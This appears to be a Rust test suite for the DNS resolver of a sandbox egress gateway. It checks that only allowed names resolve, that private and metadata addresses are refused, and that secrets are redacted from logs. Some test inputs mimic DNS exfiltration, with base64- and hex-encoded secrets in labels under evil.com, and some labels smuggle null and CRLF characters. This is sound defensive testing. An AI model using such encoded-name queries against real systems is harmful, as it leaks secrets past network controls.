//! What a worker's DNS answers.

use crate::harness::{FIRST, Harness, PATIENCE, SECRET, Setup, question};
use caisson_egress::{EgressEvent, QueryRate};
use hickory_proto::op::{Message, ResponseCode};
use hickory_proto::rr::{RData, RecordType};
use std::net::Ipv4Addr;
use std::num::NonZeroU32;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const RULE: &str =
    "  - { host: '*.example.com', ports: [443], networks: [127.0.0.0/8], protocol: tcp }\n";

fn code(answer: &Message) -> ResponseCode {
    answer.metadata.response_code
}

/// The answer to hand-made labels.
async fn ask_labels(harness: &Harness, labels: &[&[u8]]) -> Message {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        bytes.push(u8::try_from(label.len()).unwrap());
        bytes.extend(*label);
    }
    bytes.extend([0, 0, 1, 0, 1]);
    harness.ask_at(Ipv4Addr::LOCALHOST, &bytes).await
}

#[tokio::test]
async fn an_allowed_name_gets_a_stable_address_and_ptr_knows_it() {
    let harness = Setup::new(RULE).open();
    assert_eq!(harness.look_up("api.example.com").await, FIRST);
    assert_eq!(
        harness.look_up("db.example.com").await,
        Ipv4Addr::new(127, 18, 1, 2)
    );
    assert_eq!(harness.look_up("API.example.COM").await, FIRST);
    let reverse = harness
        .ask("1.1.18.127.in-addr.arpa", RecordType::PTR)
        .await;
    match &reverse.answers[0].data {
        RData::PTR(name) => assert_eq!(name.0.to_ascii(), "api.example.com."),
        other => panic!("{other:?}"),
    }
    for unknown in ["8.8.8.8.in-addr.arpa", "9.1.18.127.in-addr.arpa"] {
        assert_eq!(
            code(&harness.ask(unknown, RecordType::PTR).await),
            ResponseCode::NXDomain
        );
    }
    assert_eq!(harness.session.totals().denied, 0);
}

#[tokio::test]
async fn an_answer_comes_from_the_address_that_was_asked() {
    let harness = Setup::new(RULE).open();
    for server in [
        Ipv4Addr::new(127, 0, 0, 53),
        Ipv4Addr::new(127, 9, 9, 9),
        Ipv4Addr::LOCALHOST,
    ] {
        let answer = harness
            .ask_at(server, &question("api.example.com", RecordType::A))
            .await;
        assert_eq!(answer.metadata.id, 0x1234);
        assert_eq!(answer.answers.len(), 1);
    }
}

#[tokio::test]
async fn dns_over_ipv6_says_the_same() {
    let harness = Setup::new(RULE).open();
    let answer = harness
        .ask_at(
            std::net::Ipv6Addr::LOCALHOST,
            &question("api.example.com", RecordType::A),
        )
        .await;
    assert_eq!(answer.answers.len(), 1);
}

#[tokio::test]
async fn other_records_of_an_allowed_name_are_no_data() {
    let harness = Setup::new(RULE).open();
    for kind in [
        RecordType::AAAA,
        RecordType::HTTPS,
        RecordType::SVCB,
        RecordType::TXT,
        RecordType::MX,
        RecordType::SRV,
    ] {
        let answer = harness.ask("api.example.com", kind).await;
        assert_eq!(
            (code(&answer), answer.answers.len()),
            (ResponseCode::NoError, 0),
            "{kind}"
        );
    }
}

#[tokio::test]
async fn other_names_do_not_exist_and_each_is_reported_with_the_rule_that_would_allow_it() {
    let mut harness = Setup::new(RULE).open();
    for name in [
        "c2VjcmV0LWRhdGE.evil.com",
        "example.com",
        "a.b.example.com",
        "evilexample.com",
        "example.com.evil.com",
    ] {
        for kind in [RecordType::A, RecordType::AAAA, RecordType::TXT] {
            assert_eq!(
                code(&harness.ask(name, kind).await),
                ResponseCode::NXDomain,
                "{name}"
            );
        }
        let EgressEvent::Refused { to, refusal, .. } = harness.event().await else {
            panic!("a refusal")
        };
        assert_eq!(to.host.as_deref(), Some(name.to_ascii_lowercase().as_str()));
        assert_eq!(refusal.reason.as_str(), "name_not_allowed");
        assert!(
            refusal
                .rule_to_add
                .unwrap()
                .contains(&format!("host: {}", name.to_ascii_lowercase()))
        );
    }
    assert_eq!(
        harness.session.totals().denied,
        15,
        "each attempt counts, though equal ones are told once"
    );
}

#[tokio::test]
async fn labels_that_are_no_host_name_never_match_a_rule() {
    let mut harness = Setup::new(RULE).open();
    let evil: [&[&[u8]]; 6] = [
        &[b"evil\0", b"example", b"com"],
        &[b"evil\0.example.com"],
        &[b"a\r\nb", b"example", b"com"],
        &[b"a b", b"example", b"com"],
        &[b"a%lo", b"example", b"com"],
        &[b"[a]", b"example", b"com"],
    ];
    for labels in evil {
        assert_eq!(
            code(&ask_labels(&harness, labels).await),
            ResponseCode::NXDomain,
            "{labels:?}"
        );
        assert_eq!(harness.reason().await, "name_invalid", "{labels:?}");
    }
    assert_eq!(
        code(&ask_labels(&harness, &[b"2130706433"]).await),
        ResponseCode::NXDomain
    );
    assert_eq!(harness.reason().await, "name_invalid");
}

#[tokio::test]
async fn every_upstream_answer_is_judged() {
    let mut harness = Setup::new(RULE).open();
    assert_eq!(
        code(&harness.ask("private.example.com", RecordType::A).await),
        ResponseCode::NXDomain
    );
    let EgressEvent::Refused { to, refusal, .. } = harness.event().await else {
        panic!("a refusal")
    };
    assert_eq!(to.address, Some("10.9.8.7".parse().unwrap()));
    assert_eq!(refusal.reason.as_str(), "special_purpose");
    assert!(
        refusal
            .rule_to_add
            .unwrap()
            .contains("networks: [\"10.9.8.7/32\"]")
    );
    assert_eq!(
        code(&harness.ask("cloud.example.com", RecordType::A).await),
        ResponseCode::NXDomain
    );
    assert_eq!(harness.reason().await, "metadata");
    harness.look_up("mixed.example.com").await;
    assert_eq!(
        harness.reason().await,
        "special_purpose",
        "the private one of two answers is told"
    );
}

#[tokio::test]
async fn a_name_that_does_not_resolve_is_servfail_and_reported() {
    let mut harness = Setup::new(RULE).open();
    assert_eq!(
        code(&harness.ask("nowhere.example.com", RecordType::A).await),
        ResponseCode::ServFail
    );
    assert_eq!(harness.reason().await, "dns_failed");
    assert_eq!(harness.session.totals().failed, 1);
}

#[tokio::test]
async fn before_the_call_starts_every_question_is_refused() {
    let mut harness = Setup::new(RULE).attach();
    assert_eq!(
        code(&harness.ask("api.example.com", RecordType::A).await),
        ResponseCode::Refused
    );
    assert_eq!(harness.reason().await, "not_started");
}

#[tokio::test]
async fn a_worker_that_floods_dns_is_refused_and_told_once() {
    let mut setup = Setup::new(RULE);
    let one = NonZeroU32::MIN;
    setup.gateway.queries = QueryRate {
        per_second: one,
        burst: one,
    };
    let mut harness = setup.open();
    harness.look_up("api.example.com").await;
    for _ in 0..5 {
        assert_eq!(
            code(&harness.ask("api.example.com", RecordType::A).await),
            ResponseCode::Refused
        );
    }
    assert_eq!(harness.reason().await, "too_many_queries");
    assert_eq!(harness.session.totals().denied, 1);
}

#[tokio::test]
async fn tcp_answers_several_questions_on_one_connection() {
    let harness = Setup::new(RULE).open();
    let mut stream = TcpStream::connect(("127.0.0.1", harness.dns_tcp))
        .await
        .unwrap();
    for (name, count) in [("api.example.com", 1), ("evil.com", 0)] {
        let question = question(name, RecordType::A);
        stream
            .write_u16(u16::try_from(question.len()).unwrap())
            .await
            .unwrap();
        stream.write_all(&question).await.unwrap();
        let length = tokio::time::timeout(PATIENCE, stream.read_u16())
            .await
            .expect("an answer")
            .unwrap();
        let mut answer = vec![0; usize::from(length)];
        stream.read_exact(&mut answer).await.unwrap();
        assert_eq!(Message::from_vec(&answer).unwrap().answers.len(), count);
    }
}

#[tokio::test]
async fn what_is_no_question_gets_no_address() {
    let harness = Setup::new(RULE).open();
    let answer = harness
        .ask_at(
            Ipv4Addr::LOCALHOST,
            &[0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xff],
        )
        .await;
    assert_eq!(code(&answer), ResponseCode::FormErr);
    let mut two = question("api.example.com", RecordType::A);
    two[5] = 2;
    let tail = two[12..].to_vec();
    two.extend(tail);
    assert_eq!(
        code(&harness.ask_at(Ipv4Addr::LOCALHOST, &two).await),
        ResponseCode::FormErr
    );
}

#[tokio::test]
async fn noise_on_the_socket_harms_nothing() {
    let harness = Setup::new(RULE).open();
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let mut state = 1u32;
    for length in 0..300 {
        let noise = std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            state.to_be_bytes()[0]
        });
        let noise: Vec<u8> = noise.take(length).collect();
        socket
            .send_to(&noise, ("127.0.0.1", harness.dns_udp))
            .unwrap();
        if length % 50 == 49 {
            // Lets the gateway work off what came, so that its bound on lookups under way drops no question of ours.
            tokio::task::yield_now().await;
        }
    }
    let mut last = None;
    for _ in 0..20 {
        let ask = harness.ask("api.example.com", RecordType::A);
        if let Ok(answer) = tokio::time::timeout(PATIENCE / 20, ask).await {
            last = Some(answer);
            break;
        }
    }
    assert_eq!(last.expect("an answer").answers.len(), 1);
}

#[tokio::test]
async fn a_secret_in_a_name_reaches_neither_events_nor_the_audit_log() {
    let mut harness = Setup::new(RULE).open();
    let hex = "536573616d652d4f70656e2d3232";
    for name in [SECRET, hex] {
        harness
            .ask(&format!("{name}.evil.com"), RecordType::A)
            .await;
        let event = format!("{:?}", harness.event().await).to_lowercase();
        assert!(event.contains("[redacted].evil.com"), "{event}");
        assert!(!event.contains("sesame") && !event.contains(hex), "{event}");
    }
    let lines = format!("{:?}", harness.audit_lines()).to_lowercase();
    assert!(lines.contains("[redacted].evil.com"), "{lines}");
    assert!(!lines.contains("sesame") && !lines.contains(hex), "{lines}");
}

#[tokio::test]
async fn what_is_no_query_is_told_once_for_each_address_over_udp_and_over_tcp() {
    let mut harness = Setup::new(RULE).open();
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    for address in ["127.0.0.7", "127.0.0.7", "127.0.0.8"] {
        socket
            .send_to(b"no DNS", (address, harness.dns_udp))
            .unwrap();
    }
    let mut stream = TcpStream::connect(("127.0.0.1", harness.dns_tcp))
        .await
        .unwrap();
    stream.write_all(b"GET / HTTP/1.1\r\n\r\n").await.unwrap();
    stream.shutdown().await.unwrap();
    let mut told = Vec::new();
    while told.len() < 3 {
        let EgressEvent::Refused { to, refusal, .. } = harness.event().await else {
            panic!("a refusal")
        };
        assert_eq!(refusal.reason.as_str(), "dns_malformed");
        told.push(to.address.unwrap().to_string());
    }
    told.sort();
    assert_eq!(told, ["127.0.0.1", "127.0.0.7", "127.0.0.8"]);
    assert_eq!(harness.session.totals().denied, 3);
}
